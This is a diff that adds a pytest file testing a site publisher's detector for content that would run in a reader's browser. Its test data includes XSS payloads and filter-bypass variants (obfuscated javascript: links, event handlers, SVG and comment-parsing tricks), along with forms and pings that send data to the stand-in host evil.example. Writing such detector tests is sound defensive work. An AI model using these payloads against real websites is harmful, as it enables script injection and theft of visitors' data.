@@ -1,0 +1,130 @@
+"""What acts in a reader's browser is found as a browser finds it, in texts and in files."""
+
+from typing import Any
+
+import pytest
+
+from publish.checks.active_content import active_parts
+
+PROGRAM = "runs a program in the reader's browser: take it out"
+ACTIVE = [
+    "<script src='/x.js'></script>",
+    "<ScRiPt\n>alert(1)</sCrIpT\n>",
+    "<script/src=x>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<META\nHTTP-EQUIV = 'Refresh' content=1>",
+    "<base href='https://evil.example/'>",
+    "<object data='/x.swf'></object>",
+    "<embed src='/x'>",
+    "<applet code='X'></applet>",
+    "<form action='https://evil.example/f'><input name=email></form>",
+    "<form action='//evil.example/f'></form>",
+    "<form action='/\\evil.example'></form>",
+    "<form action='\thttps:evil.example'></form>",
+    "<button formaction='https://evil.example'>Send</button>",
+    "<input type=submit formaction='https://evil.example'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='java&#115;cript&colon;alert(1)'>x</a>",
+    "<a href='  java\nscript:alert(1)'>x</a>",
+    "<a href=JAVASCRIPT:alert(1)>x</a>",
+    "<a href='vbscript:x'>x</a>",
+    "<a href='data:text/html,<b>x</b>'>x</a>",
+    "<a href='/' onclick='alert(1)'>x</a>",
+    "<img alt='' src='/images/dot.svg' onerror=alert(1)>",
+    "<iframe srcdoc='<b>x</b>'></iframe>",
+    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "<svg><animate attributeName=href values='/;javascript:alert(1)'></animate></svg>",
+    "<a href='/' ping='https://evil.example/p'>x</a>",
+    "<link rel=preconnect href='https://evil.example'>",
+    "<!--><script>alert(1)</script>-->",
+    "<!-- a --!><script>alert(1)</script>-->",
+    "<style></style x><script>alert(1)</script>",
+    "<div title='<b'><script src=x",
+]
+QUIET = [
+    "<form action='/search/'><input name=q></form>",
+    "<details><summary>More</summary>x</details>",
+    "<img alt='' src='data:image/png;base64,AAAA'>",
+    "<a href='https://other.example/'>x</a>",
+    "<!-- <script>alert(1)</script> -->",
+    "<p title='javascript: the good parts'>x</p>",
+    "<meta itemprop='name' content='x'>",
+    "once = 1, one=2, `javascript:` is a scheme",
+]
+
+
+@pytest.mark.parametrize("html", ACTIVE)
+def test_what_acts_is_found(html: str) -> None:
+    assert active_parts(html)
+
+
+@pytest.mark.parametrize("html", QUIET)
+def test_what_does_not_act_is_left_alone(desk: Any, html: str) -> None:
+    desk.post(f"Text.\n\n{html}\n")
+    assert [line for line in desk.told() if "browser" in line or "sends" in line] == []
+
+
+def test_raw_html_that_acts_is_an_error_with_its_line(desk: Any) -> None:
+    desk.post("Text.\n\n<p>\n<script>alert(1)</script>\n</p>\n\nSo <b onclick=x>this</b>.")
+    assert desk.told() == [f"9: `<script>` {PROGRAM}", f"12: `onclick` {PROGRAM}"]
+
+
+@pytest.mark.parametrize("link", ["[x](javascript:alert(1))", "[x](<java&#115;cript:alert(1)>)"])
+def test_a_link_that_runs_a_program_is_an_error(desk: Any, link: str) -> None:
+    desk.post(link)
+    assert desk.told() == [f"6: `javascript:alert(1)` {PROGRAM}"]
+
+
+def test_a_draft_is_shown_to_some_so_it_is_an_error_there_too(desk: Any) -> None:
+    desk.post("<script>x</script>", status="draft", preview="a" * 20)
+    assert desk.told() == [f"8: `<script>` {PROGRAM}"]
+
+
+def test_a_setting_makes_it_a_warning(desk: Any) -> None:
+    desk.settings["WRITING_RULES"] = {"active-content": "warning"}
+    desk.post("<script>x</script>")
+    assert desk.errors() == []
+    assert f"content/posts/post.md:6: `<script>` {PROGRAM}" in desk.warnings()
+
+
+def test_a_form_to_this_site_by_its_full_address_is_ours(desk: Any) -> None:
+    desk.settings["SITEURL"] = "https://www.example.com"
+    desk.post("<form action='https://www.example.com/f/'></form>")
+    assert desk.told() == []
+    desk.post("<form action='https://www.example.com.evil.example/f/'></form>")
+    assert len(desk.told()) == 1
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.js", "x"),
+        ("a.MJS", "x"),
+        ("a.wasm", "x"),
+        ("a.html", "<p><script>x</script>"),
+        ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"),
+        ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
+        ("a.svg", "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script/></s:svg>"),
+        ("a.svg", "<!DOCTYPE svg [<!ENTITY x '<script/>'>]><svg>&x;</svg>"),
+        ("a.svg", "<?xml-stylesheet href='a.xsl' type='text/xsl'?><svg/>"),
+        ("a.xml", "<x><script xmlns='http://www.w3.org/1999/xhtml'>x</script></x>"),
+    ],
+)
+def test_a_file_that_holds_a_program_is_an_error(desk: Any, name: str, text: str) -> None:
+    desk.write(f"content/images/{name}", text)
+    [told] = [line for line in desk.errors() if "program" in line]
+    assert told.startswith(f"content/images/{name}: ")
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.svg", "<?xml version='1.0'?><svg><a href='https://x.example'><text/></a></svg>"),
+        ("a.html", "<h1>Terms</h1>"),
+        ("a.css", "p {}"),
+        ("a.txt", "<script>"),
+    ],
+)
+def test_a_file_without_one_is_not(desk: Any, name: str, text: str) -> None:
+    desk.write(f"content/images/{name}", text)
+    assert [line for line in desk.errors() if "program" in line] == []
